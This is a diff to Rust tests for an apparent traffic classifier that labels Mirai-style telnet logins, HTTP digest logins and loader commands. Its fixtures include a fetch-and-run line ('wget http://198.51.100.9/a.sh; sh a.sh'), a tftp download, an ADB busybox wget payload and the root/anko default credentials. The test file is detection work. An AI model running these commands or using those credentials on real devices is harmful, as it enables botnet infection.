@@ -177,6 +177,25 @@ fn telnet_logins() {
         Service::Telnet,
         &["telnet Refused mirai-list-30"],
     );
+    // All typed ahead: the commands of one that is let in are taken, those of one that is refused are not.
+    let login = [(S, &b"login: "[..]), (C, b"root\r\n"), (S, b"Password: ")];
+    let ahead: &[u8] = b"anko\r\ncd /tmp; wget http://198.51.100.9/a.sh; sh a.sh\r\n";
+    check(
+        &[&login[..], &[(C, ahead), (S, b"\r\nLogin incorrect\r\nlogin: ")]].concat(),
+        Service::Telnet,
+        &["telnet Refused mirai-list-42"],
+    );
+    check(
+        &[&login[..], &[(C, ahead), (S, b"\r\n# ")]].concat(),
+        Service::Telnet,
+        &["telnet Accepted mirai-list-42", "LoaderCommand to server: fetch by wget"],
+    );
+    // What people type as well is told as such.
+    check(
+        &[&login[..], &[(C, b"anko\r\n"), (S, b"\r\n# "), (C, b"tftp -g -r fw.bin 10.0.0.5\r\n")]].concat(),
+        Service::Telnet,
+        &["telnet Accepted mirai-list-42", "TypedFetch to server: fetch by tftp"],
+    );
     // Output to a command, without any prompt, proves the login; the echo of the command does not.
     check(
         &[
@@ -299,6 +318,17 @@ fn http_logins() {
         ],
         Service::Http,
         &["http Refused mirai-list-02", "http Accepted mirai-list-04", "http Refused"],
+    );
+    // A nonce that ran out refuses nobody.
+    check(
+        &[
+            (C, b"GET / HTTP/1.1\r\nAuthorization: Digest username=\"x\", nonce=\"1\", response=\"y\"\r\n\r\n"),
+            (S, b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Digest nonce=\"2\", stale=TRUE\r\nContent-Length: 0\r\n\r\n"),
+            (C, b"GET / HTTP/1.1\r\nAuthorization: Digest username=\"x\", nonce=\"2\", response=\"z\"\r\n\r\n"),
+            (S, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"),
+        ],
+        Service::Http,
+        &["http Accepted"],
     );
     check(
         &[
@@ -451,11 +481,13 @@ fn programs_over_bare_tcp() {
         Service::Unknown,
         &["Elf to client: ELF program (MIPS)"],
     );
-    check(
-        &[(C, b"cd /tmp; wget http://198.51.100.9/a.sh; sh a.sh\n")],
-        Service::Unknown,
-        &["LoaderCommand to server: fetch by wget"],
-    );
+    check(&[(C, b"cd /tmp; wget http://198.51.100.9/a.sh; sh a.sh\n")], Service::Unknown, &[]);
+    let order: Said<'_> = (C, b"cd /tmp; wget http://198.51.100.9/a.sh; sh a.sh\n");
+    let taken = ["LoaderCommand to server: fetch by wget"];
+    check(&[(S, b"/ # "), order], Service::Unknown, &taken);
+    check(&[order, (S, b"saved\n/ # ")], Service::Unknown, &taken);
+    // Machines write such lines into their logs.
+    check(&[order, (S, b"200 taken\n"), order, (S, b"200 taken\n")], Service::Unknown, &[]);
     check(
         &[(C, b"CNXN\0\0\0\x01\0\x10\0\0host::\0OPEN\x40\0\0\0shell:cd /data/local/tmp/; busybox wget http://x/a -O -> a\0\n")],
         Service::Unknown,
